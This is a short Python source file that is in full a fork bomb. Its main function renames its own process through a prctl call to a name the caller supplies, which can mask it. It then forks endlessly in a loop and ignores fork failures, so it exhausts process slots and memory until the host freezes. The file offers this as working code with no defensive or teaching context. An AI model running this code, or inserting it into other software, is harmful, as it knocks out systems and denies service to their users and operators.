"""Multiplies without end."""
import ctypes
import os


def main(announce):
    ctypes.CDLL(None).prctl(15, announce.encode(), 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            pass
